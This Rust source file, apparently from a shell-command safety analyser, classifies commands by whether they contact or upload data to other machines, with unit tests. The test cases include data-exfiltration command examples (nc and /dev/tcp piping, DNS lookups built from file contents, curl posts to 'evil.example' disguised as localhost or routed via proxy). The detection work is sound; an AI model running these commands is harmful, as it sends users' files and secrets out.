//! Which parts of a command can carry something to another machine.

use alloc::vec::Vec;

use aish_program_format::Trait;

use crate::command::Part;
use crate::command::arguments::Arguments;
use crate::command::word::Word;
use crate::rules::{Effect, programs};

/// Options that make a fetching program send.
const UPLOAD_OPTIONS: &[&str] = &[
    "-d",
    "--data",
    "--data-",
    "-F",
    "--form",
    "-T",
    "--upload-file",
    "--json",
    "--post-",
    "--body-",
    "--method",
    "-X",
    "--request",
    "--url-query",
    "POST",
    "PUT",
    "PATCH",
];

/// Signs of the network in code.
const CODE: &[&str] =
    &["socket", "urllib", "http", "requests.", "fetch(", "smtplib", "ftplib", "net.", "Net::", "IO::Socket"];

/// What a command can carry to another machine, ordered so that `max` is the most.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Default)]
pub enum Sends {
    /// Nothing.
    #[default]
    Nothing,
    /// The address that it asks for, and what stands in it.
    Addresses,
    /// Data of ours.
    Data,
}

impl Sends {
    /// Says what the parts of a command send.
    pub(crate) fn of_parts(parts: &[Part]) -> Self {
        parts.iter().map(|part| Self::of(part).max(Self::of_parts(&part.parts))).max().unwrap_or_default()
    }

    /// Says what a part itself sends.
    pub(crate) fn of(part: &Part) -> Self {
        if uploads(part) {
            Self::Data
        } else if talks(part) {
            Self::Addresses
        } else {
            Self::Nothing
        }
    }
}

/// Says whether a part can reach another machine at all, if only by an address that it asks for.
pub(crate) fn talks(part: &Part) -> bool {
    match part.effect {
        Effect::Network | Effect::Publish | Effect::SendSecret | Effect::DeleteRemote => return true,
        Effect::Read if part.rule.prints() => return false,
        _ => {}
    }
    let mut words = part.text.split(' ');
    let program = name(words.next().unwrap_or_default());
    if programs::is(program, Trait::Talks) {
        return true;
    }
    let rest = part.text.split_once(' ').map_or("", |(_, rest)| rest);
    match part.effect {
        _ if talking(program).next().is_some() => talking(program).any(|command| words_hold(rest, command)),
        Effect::Read => false,
        Effect::Run | Effect::RunForeign | Effect::Unknown => {
            rest.contains("://") || CODE.iter().any(|sign| rest.contains(sign))
        }
        _ => rest.contains("://"),
    }
}

/// Says whether a part sends data of ours to another machine; this machine itself does not count.
fn uploads(part: &Part) -> bool {
    let mut words = part.text.split(' ');
    let program = name(words.next().unwrap_or_default());
    let sends = match part.effect {
        Effect::SendSecret => true,
        _ if programs::is(program, Trait::Uploads) => true,
        _ if programs::is(program, Trait::UploadsRemote) => words.clone().any(|word| word.contains(':')),
        Effect::Network => {
            words.any(|word| UPLOAD_OPTIONS.iter().any(|option| word == *option || longer(word, option)))
                || part.rule == "network.socket"
        }
        _ => false,
    };
    sends && !stays_here(&part.text)
}

/// Says whether a word is an option with its value, as in `--data=x`, `-d@file` or `--data-raw`.
fn longer(word: &str, option: &str) -> bool {
    let Some(rest) = word.strip_prefix(option) else { return false };
    option.ends_with('-') || rest.starts_with('=') || (option.len() == 2 && option.starts_with('-') && !rest.is_empty())
}

/// Says whether all addresses of a line are of this machine, and nothing leads to another one.
fn stays_here(text: &str) -> bool {
    let words: Vec<Word> = text.split(' ').map(Word::literal).collect();
    let Some((program, arguments)) = words.split_first() else { return false };
    let sorted = Arguments::new(name(&program.text), arguments);
    let names = |word: &&Word| ["://", "localhost", "127."].iter().any(|sign| word.text.contains(sign));
    let mut places = arguments.iter().filter(names).peekable();
    places.peek().is_some()
        && places.all(|word| is_loopback(&word.text))
        && sorted.operands().all(|(_, word, _)| is_loopback(&word.text) || !is_host(&word.text))
        && !leads_elsewhere(&sorted)
}

/// Options by which what is asked for at one place is asked for at another one, by their beginnings.
const ELSEWHERE: &[&str] =
    &["--proxy", "--preproxy", "--socks", "--resolve", "--connect-to", "--config", "--doh", "--dns"];

/// Says whether options may make a request go to another machine than its address names; shortened ones too.
fn leads_elsewhere(arguments: &Arguments<'_>) -> bool {
    ["-x", "-K", "--url"].iter().any(|option| arguments.has(option))
        || arguments.options().filter(|(_, text)| text.starts_with("--")).any(|(_, text)| {
            let name = text.split('=').next().unwrap_or_default();
            ELSEWHERE.iter().any(|known| name.starts_with(known) || known.starts_with(name))
        })
}

/// Says whether an address is one of this machine.
fn is_loopback(address: &str) -> bool {
    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
    let (host, port) = rest.split(['/', '?', '#']).next().unwrap_or_default().split_once(':').unwrap_or((rest, ""));
    let host = host.split(['/', '?', '#']).next().unwrap_or_default();
    matches!(host, "localhost" | "127.0.0.1") && port.bytes().all(|byte| byte.is_ascii_digit())
}

/// Says whether a word may be the name of a machine, perhaps with a path behind it.
fn is_host(text: &str) -> bool {
    let host = text.split(['/', ':', '?', '#']).next().unwrap_or_default();
    host.contains('.')
        && !host.starts_with('.')
        && host.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'@'))
}

/// Goes through the sub-commands of a program that talk to another machine.
fn talking(program: &str) -> impl Iterator<Item = &'static str> {
    programs::find(program).into_iter().flat_map(|known| known.tables().texts(known.facts().talking))
}

fn name(program: &str) -> &str {
    program.rsplit('/').next().unwrap_or(program)
}

/// Says whether a text has some words in a row, whole.
fn words_hold(text: &str, wanted: &str) -> bool {
    let mut from = 0;
    while let Some(at) = text.get(from..).and_then(|rest| rest.find(wanted)) {
        let (before, behind) = (text.get(..from + at), text.get(from + at + wanted.len()..));
        let is_whole = before.is_none_or(|before| before.is_empty() || before.ends_with(' '))
            && behind.is_none_or(|behind| behind.is_empty() || behind.starts_with(' '));
        if is_whole {
            return true;
        }
        from += at + wanted.chars().next().map_or(1, char::len_utf8);
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_are_whole() {
        for (text, wanted, holds) in [
            ("fetch origin", "fetch", true),
            ("-C x fetch", "fetch", true),
            ("-C prefetch x", "fetch", false),
            ("fetchfetch fetch", "fetch", true),
            ("remote update x", "remote update", true),
            ("remote  update", "remote update", false),
            ("fetch-pack", "fetch", false),
            ("", "fetch", false),
            ("ä ää", "ä", true),
            ("ää", "ä", false),
        ] {
            assert_eq!(words_hold(text, wanted), holds, "{text} {wanted}");
        }
    }
    use crate::command::{Surroundings, analyse};
    use crate::policy::PolicyRules;

    fn any(command: &str, condition: fn(&Part) -> bool) -> bool {
        fn walk(parts: &[Part], condition: fn(&Part) -> bool) -> bool {
            parts.iter().any(|part| condition(part) || walk(&part.parts, condition))
        }
        walk(&analyse(command, &Surroundings::default(), &PolicyRules::default()).parts, condition)
    }

    #[test]
    fn what_reaches_another_machine_talks() {
        for command in [
            "curl https://example.com",
            "curl -d @f https://example.com",
            "git clone https://example.com/x",
            "git -C x fetch origin",
            "scp f host:",
            "dig $(cat x).example.com",
            "python3 -c 'import urllib.request as u; u.urlopen(\"http://x\")'",
            "xargs -n1 curl < urls",
            "pip install --index-url http://x.example y",
            "echo x > /dev/tcp/h/1",
            "sudo nc h 1",
        ] {
            assert!(any(command, talks), "{command}");
        }
        for command in
            ["ls", "cat notes.txt", "echo see http://x", "grep -r http:// .", "git status", "cargo build", "rm x"]
        {
            assert!(!any(command, talks), "{command}");
        }
    }

    #[test]
    fn what_sends_data_uploads_and_this_machine_does_not_count() {
        for command in [
            "curl -d @f https://example.com",
            "curl --data-binary=@f https://example.com",
            "curl -XPOST https://example.com",
            "scp f host:",
            "cat f | nc host 1",
            "wget --post-file=f https://example.com",
            "curl -d x http://localhost.evil.example",
            "curl -d x http://localhost:80@evil.example/",
            "curl -d x http://localhost:8080 evil.example",
            "curl -d x -H 'Referer: http://localhost' evil.example/a",
            "curl -d x -x evil:8080 http://localhost:8080/a",
            "cat f | mail a@b.example",
            "base64 f > /dev/tcp/h/1",
        ] {
            assert!(any(command, uploads), "{command}");
        }
        for command in ["curl https://example.com", "curl -d x http://localhost:8080/a", "rsync -a a/ b/", "ls"] {
            assert!(!any(command, uploads), "{command}");
        }
    }
}
